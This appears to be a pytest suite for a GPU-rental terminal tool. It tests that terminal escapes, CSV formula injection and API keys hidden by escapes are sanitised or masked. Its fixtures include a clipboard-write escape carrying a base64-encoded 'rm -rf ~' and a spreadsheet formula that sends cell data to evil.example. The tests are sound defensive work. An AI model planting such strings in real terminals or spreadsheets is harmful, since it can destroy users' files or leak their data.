"""Drill: no byte from outside reaches a terminal, a notification or a CSV cell raw.

Hostile strings: an OSC 52 clipboard write, a screen clear, an OSC window title, and a label
that a spreadsheet would run as a formula.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sqlite3
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest

from gputui.config import Config
from gputui.models import BillingRule, Granularity, Instance, InstanceStatus, SSHEndpoint, utcnow
from gputui.services.hub import Services
from gputui.store import Notice, SessionStore
from tests.conftest import GPUTUI, run_gputui_env
from tests.drill.sshd_host import needs_sshd, start_sshd

CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4K\x07"
CLEAR = "\x1b[2J"
TITLE = "\x1b]0;pwned\x1b\\"
HOSTILE = f"e{CLIPBOARD}{CLEAR}{TITLE}x"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def raw_free(text: str) -> bool:
    return "\x1b" not in text and "\x07" not in text and "\x9b" not in text


def test_the_sanitiser():
    from gputui.format import check_label
    from gputui.sanitize import csv_cell, sanitize

    assert sanitize(HOSTILE) == "ex"
    assert sanitize("a\x9b2Jb\u202eevil") == "abevil"
    assert csv_cell(FORMULA).startswith("'=")
    for lead in "=+-@\t\r":
        assert csv_cell(f"{lead}1+1").startswith("'")
    assert csv_cell("plain name") == "plain name"
    with pytest.raises(Exception, match="--name: control characters"):
        check_label(HOSTILE, "--name")


@pytest.mark.parametrize(("raw", "shown"), [
    ("ABC\rred", "red"),
    ("ABCDEF\rred", "redDEF"),  # what a terminal leaves: the rest of the longer state
    ("step 1/3\rstep 2/3\rstep 3/3 done\r", "step 3/3 done"),
    ("\x1b[32mABCDEF\x1b[0m\rred", "redDEF"),  # colours take no room
    ("ABCDEF\r\x1b[Kred", "red"),  # erased to the end of the line
    ("50%\x08\x08\x0875%", "75%"),  # backspaces step back
    (f"ABC\r{HOSTILE}", "exC"),  # still sanitised: no escape reaches the terminal
])
def test_a_log_line_is_drawn_as_a_terminal_leaves_it(raw: str, shown: str):
    """Issue 29.8: a progress bar's carriage returns in a run's log."""
    from gputui.sanitize import terminal_line

    assert terminal_line(raw) == shown


def _put_raw(home: Path, inst: Instance, name: str) -> None:
    """A row as an older gputui (or a hand edit) may have left it: the label unchecked."""
    store = SessionStore(home / "state.db")
    store.put_instance_sync(inst)
    data = json.loads(inst.model_dump_json())
    data["name"] = name
    with sqlite3.connect(home / "state.db") as db:
        db.execute("UPDATE instances SET data=? WHERE id=?", (json.dumps(data), inst.id))
    store.close()


def _ssh_instance(name: str, port: int, key: str | None = None) -> Instance:
    inst = Instance(id=f"id-{abs(hash(name)) % 10**8}", name=name, provider="ssh", gpu="A100",
                    billing=BillingRule(price_per_hour=Decimal("1.20")),
                    ssh=SSHEndpoint(host="127.0.0.1", port=port, key_path=key),
                    provider_id=f"127.0.0.1:{port}", created_at=utcnow())
    inst.mark_running(utcnow())
    return inst


def test_labels_with_control_characters_are_refused_and_old_ones_shown_clean(gputui_home: Path):
    env = run_gputui_env(gputui_home)
    made = subprocess.run([*GPUTUI, "create", "--gpu", "4090", "--name", HOSTILE], env=env,
                          capture_output=True, text=True, timeout=120)
    assert made.returncode == 2 and "--name: control characters" in made.stderr
    assert raw_free(made.stdout + made.stderr)
    added = subprocess.run([*GPUTUI, "add-ssh", "ssh -p 1 root@127.0.0.1", "--price", "1",
                            "--name", HOSTILE], env=env, capture_output=True, text=True, timeout=60)
    assert added.returncode == 2 and "--name: control characters" in added.stderr
    assert SessionStore(gputui_home / "state.db").instances_sync() == []

    _put_raw(gputui_home, _ssh_instance("a", 1), HOSTILE)
    _put_raw(gputui_home, _ssh_instance("b", 2), FORMULA)
    listed = subprocess.run([*GPUTUI, "instances"], env=env, capture_output=True, text=True,
                            timeout=60)
    assert listed.returncode == 0 and raw_free(listed.stdout + listed.stderr)
    assert "ex" in listed.stdout
    exported = subprocess.run([*GPUTUI, "costs", "--csv"], env=env, capture_output=True,
                              text=True, timeout=60)
    assert exported.returncode == 0 and raw_free(exported.stdout)
    names = [row["name"] for row in csv.DictReader(io.StringIO(exported.stdout))]
    assert sorted(names) == sorted(["ex", "'" + FORMULA])  # text, never a formula


async def test_console_notices_and_home_table_are_clean(gputui_home: Path):
    from textual.widgets import DataTable

    from gputui.app import GpuTuiApp

    _put_raw(gputui_home, _ssh_instance("hostile", 1), HOSTILE)
    store = SessionStore(gputui_home / "state.db")
    notices: list[Notice] = []
    store.subscribe(lambda e: notices.append(e) if isinstance(e, Notice) else None)
    store.notify(f"host said: {HOSTILE}", "error")
    assert notices[-1].text == "host said: ex"
    app = GpuTuiApp(config=Config(), store=store, background=False,
                    services=Services(store, Config(), state_dir=gputui_home))
    async with app.run_test(size=(80, 24)) as pilot:
        for _ in range(100):
            await pilot.pause()
            tables = list(app.screen.query(DataTable))
            if tables and any(t.row_count for t in tables):
                break
        cells = [str(c) for t in app.screen.query(DataTable) for r in range(t.row_count)
                 for c in t.get_row_at(r)]
        assert cells and all(raw_free(c) for c in cells)
        assert any("ex" in c for c in cells)


def test_lambda_error_body_is_not_printed_raw(gputui_home: Path):
    from tests.providers.lambda_emulator import TEST_KEY, LambdaEmulator

    def write_config(text: str) -> None:
        gputui_home.mkdir(parents=True, exist_ok=True)
        (gputui_home / "config.toml").write_text(text)

    async def main() -> subprocess.CompletedProcess:
        async with LambdaEmulator(request_interval=0, launch_interval=0) as emu:
            emu.fail("/instance-types", 400, times=50, body={"error": {
                "code": "global/invalid-parameters", "message": f"bad {HOSTILE}",
                "suggestion": f"{CLEAR}{TITLE}try again"}})
            config = f'[providers.lambda]\nenabled = true\nbase_url = "{emu.base_url}"\n'
            await asyncio.to_thread(write_config, config)
            env = run_gputui_env(gputui_home) | {"LAMBDA_API_KEY": TEST_KEY}
            proc = await asyncio.create_subprocess_exec(
                *GPUTUI, "create", "--provider", "lambda", "--gpu", "A10", env=env,
                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            out, err = await asyncio.wait_for(proc.communicate(), 120)
            return subprocess.CompletedProcess([], proc.returncode or 0, out.decode(), err.decode())

    done = asyncio.run(main())
    assert done.returncode != 0
    assert "bad ex" in done.stderr  # the message is shown, its escapes are not
    assert raw_free(done.stdout + done.stderr)


@needs_sshd
def test_remote_stderr_is_not_printed_raw_by_extend_and_release(gputui_home: Path, tmp_path: Path):
    host = start_sshd(tmp_path)
    try:
        for tool in ("shutdown", "poweroff", "sudo"):  # every way the power-off is tried
            hostile = host.host / "bin" / tool
            hostile.write_text(f"#!/bin/sh\nprintf '%s\\n' '{HOSTILE}' >&2\nexit 1\n")
            hostile.chmod(0o755)
        SessionStore(gputui_home / "state.db").close()
        from gputui.remote.hostkeys import KnownHosts

        KnownHosts(gputui_home / "known_hosts").add("127.0.0.1", host.port, host.host_key)
        inst = _ssh_instance("victim", host.port, str(host.key))
        store = SessionStore(gputui_home / "state.db")
        store.put_instance_sync(inst)
        env = run_gputui_env(gputui_home)
        ext = subprocess.run([*GPUTUI, "extend", "victim", "1h"], env=env, capture_output=True,
                             text=True, timeout=120)
        rel = subprocess.run([*GPUTUI, "release", "victim"], env=env, capture_output=True,
                             text=True, timeout=300)
    finally:
        host.stop()
    assert "on-instance timer" in ext.stderr and raw_free(ext.stdout + ext.stderr)
    assert rel.returncode == 1 and "power-off refused" in rel.stderr
    assert raw_free(rel.stdout + rel.stderr)
    assert store.get_instance_sync(inst.id).status in (InstanceStatus.RUNNING,
                                                       InstanceStatus.RELEASING)


async def test_every_path_that_names_an_instance_refuses_control_characters(services: Services):
    """The console's New form and Add-host dialog go through these: the form shows the line."""
    from gputui.errors import BadInput
    from gputui.providers.base import CreateRequest
    from gputui.services.hosts import add_ssh_host

    offer = await services.find_offer("sandbox", "4090")
    with pytest.raises(BadInput, match="name: control characters"):
        await services.create("sandbox", offer, CreateRequest(offer_id=offer.offer_id,
                                                              name=HOSTILE))
    with pytest.raises(BadInput, match="name: control characters"):
        await add_ssh_host(services, SSHEndpoint(host="127.0.0.1", port=1), name=HOSTILE,
                           gpu=None, price=Decimal(1), per=Granularity.SECOND)
    assert services.store.instances_sync() == []


KEY = "secret_lambda_key_0123456789abcdef"


@pytest.mark.parametrize("hidden", [
    KEY[:9] + CLEAR + KEY[9:],  # an escape inside the key: stripped, the key is whole again
    KEY[:5] + TITLE + KEY[5:20] + "\u200b" + KEY[20:],  # a title and a zero-width space
    KEY[:12] + "\x9b1m" + KEY[12:],  # an 8-bit CSI
])
def test_a_key_split_by_an_escape_is_masked_once_the_text_is_clean(hidden: str):
    """The drill: the mask ran before the escapes were stripped, so a key with one inside
    passed it and came out whole. Cleaned first, then masked."""
    from gputui.sanitize import clean_masked, log_text, sanitize

    assert KEY in sanitize(f"a={hidden}", 4000)  # what the old order showed
    assert clean_masked(f"a={hidden}", [KEY]) == "a=***"
    assert clean_masked(f"a={hidden}\nb={hidden}", [KEY], lines=True) == "a=***\nb=***"
    assert log_text(f"Command: echo {hidden}", [KEY]) == "Command: echo ***"


def test_a_cut_never_leaves_part_of_a_key():
    from gputui.sanitize import clean_masked, log_text

    text = "x" * 190 + KEY
    head = clean_masked(text, [KEY], 200)  # masked whole before the cut
    assert head == "x" * 190 + "***"
    long = "y" * 190 + KEY + "z" * 5000
    cut = log_text(long, [KEY])
    assert KEY[:4] not in cut and cut.startswith("y" * 190 + "***")
    assert cut.endswith(f"\u2026 ({len(long)} bytes)") and len(cut) < 260
    # wherever the cut falls (inside the key, were it cut first), no part of the key is left
    for limit in range(5, 40):
        for keep in ("head", "tail"):
            shown = clean_masked("v" * 50 + KEY + "v" * 50, [KEY], limit + 50, keep=keep)
            assert KEY[:4] not in shown and KEY[-4:] not in shown, (limit, keep, shown)


def test_every_key_gputui_holds_is_masked(monkeypatch: pytest.MonkeyPatch):
    from gputui.config import known_secrets

    cfg = Config.model_validate({"providers": {"lambda": {"api_key": "lambda-in-config"},
                                               "autodl": {"token": "autodl-in-config"}}})
    monkeypatch.setenv("LAMBDA_API_KEY", "lambda-from-env")
    monkeypatch.setenv("AUTODL_TOKEN", "autodl-from-env ")
    assert sorted(known_secrets(cfg)) == ["autodl-from-env", "autodl-in-config",
                                          "lambda-from-env", "lambda-in-config"]
    monkeypatch.setenv("AUTODL_TOKEN", "abc")  # too short to be told from a word: not masked
    assert "abc" not in known_secrets(None)
